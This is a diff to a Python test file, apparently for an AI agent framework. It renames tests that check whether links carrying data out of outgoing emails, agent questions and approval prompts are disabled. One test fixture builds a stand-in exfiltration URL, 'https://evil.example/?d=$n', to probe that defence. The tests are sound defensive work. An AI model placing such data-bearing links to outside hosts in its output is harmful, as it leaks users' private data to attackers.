@@ -75,7 +75,7 @@ async def sent(world: World, steps: str, **more: Any) -> list[dict[str, Any]]:
         ('"See https://own.example/a for: $s"', f"See https://own.example/a for: {APART}"),
     ],
 )
-async def test_what_a_model_made_of_both_is_sent_with_its_links_apart(
+async def test_model_output_from_both_sources_is_sent_with_disabled_links(
     mailing: World, body: str, told: JSON
 ) -> None:
     (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("ada@corp.example", "News", {body}) > $r')
@@ -90,7 +90,7 @@ async def test_what_a_model_made_of_both_is_sent_with_its_links_apart(
         '@WRITE_FILE ("out.md", "https://evil.example/?d=$n") > $w\nS5: @READ_FILE ("out.md")',
     ],
 )
-async def test_links_with_data_placed_by_the_plan_are_disabled(mailing: World, made: str) -> None:
+async def test_links_with_data_inserted_by_plan_are_disabled(mailing: World, made: str) -> None:
     async def model(command: Any, context: CallContext) -> JSON:
         return LINK
 
@@ -110,7 +110,7 @@ async def _formatted(args: dict[str, Any], context: CallContext) -> str:
     "stored",
     ['@WRITE_FILE ("out.md", "{}$n")', '@SET_WM ("k", "{}$n")', '@STORE_FACT ("{}$n")'],
 )
-async def test_an_address_with_data_in_it_is_known_where_it_is_kept(mailing: World, stored: str) -> None:
+async def test_address_containing_data_is_recognized_after_storage(mailing: World, stored: str) -> None:
     mailing.write("notes.txt", "42")
     read = {"@WRITE": '@READ_FILE ("out.md")', "@SET_W": '@GET_WM ("k")', "@STORE": '@QUERY_MEMORY ("evil")'}
     for link, status in (("", Status.DONE), (LINK[:-2], Status.REFUSED)):
@@ -120,25 +120,25 @@ async def test_an_address_with_data_in_it_is_known_where_it_is_kept(mailing: Wor
         assert outcome.result.status is status, outcome.result.response
 
 
-async def test_links_are_disabled_in_each_message_of_a_loop(mailing: World) -> None:
+async def test_links_are_disabled_in_each_message_of_loop(mailing: World) -> None:
     to = '["ada@corp.example", "eve@corp.example", "bob@corp.example"]'
     mails = await sent(mailing, f'{READ}S4: ?FOREACH ($t IN {to}) THEN @MAIL ($t, "News", $s) > $r')
     assert [mail["body"] for mail in mails] == [APART] * 3
 
 
-async def test_links_are_disabled_in_messages_whose_judgement_is_cached(mailing: World) -> None:
+async def test_links_are_disabled_in_messages_with_cached_judgement(mailing: World) -> None:
     steps = "\n".join(f'S{n}: @MAIL ("ada@corp.example", "News", $s)' for n in (4, 5, 6))
     mails = await sent(mailing, READ + steps)
     assert [mail["body"] for mail in mails] == [APART] * 3
 
 
-async def test_a_title_is_read_and_who_gets_it_is_not(mailing: World) -> None:
+async def test_title_is_sanitized_and_recipient_is_not(mailing: World) -> None:
     (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("Ada <ada@corp.example>", $s, "hi") > $r')
     assert mail == {"to": "Ada <ada@corp.example>", "subject": APART, "body": "hi"}
 
 
 @pytest.mark.parametrize("host", ["corp.example", "CORP.example"])
-async def test_links_to_those_who_may_know_the_data_stay(mailing: World, host: str) -> None:
+async def test_links_to_allowed_readers_stay(mailing: World, host: str) -> None:
     async def model(command: Any, context: CallContext) -> JSON:
         return f"see https://{host}/a?d=42"
 
@@ -155,14 +155,14 @@ async def test_links_to_those_who_may_know_the_data_stay(mailing: World, host: s
         ('@POST ("https://corp.example/hook", {"text": $s})', "json", {"text": SAID}),
     ],
 )
-async def test_what_is_passed_on_or_sent_to_a_program_stays_as_it_is(
+async def test_data_passed_to_programs_is_unchanged(
     mailing: World, step: str, field: str, told: JSON
 ) -> None:
     (call,) = await sent(mailing, f"{READ}S4: {step} > $r")
     assert call[field] == told
 
 
-async def test_the_approval_question_shows_the_message_that_is_sent(mailing: World) -> None:
+async def test_approval_question_shows_sanitized_message(mailing: World) -> None:
     rule = replace(MAIL, destructive=True)
     mailing.policy = replace(mailing.policy, tools={**mailing.policy.tools, "MAIL": rule})
     asked: list[Any] = []
@@ -187,7 +187,7 @@ def turning(*turns: JSON) -> Any:
     return turn
 
 
-async def test_what_an_agent_asks_of_people_leads_nowhere(mailing: World) -> None:
+async def test_links_in_agent_questions_are_disabled(mailing: World) -> None:
     asked: list[Any] = []
 
     def answers(ask: Any) -> str:
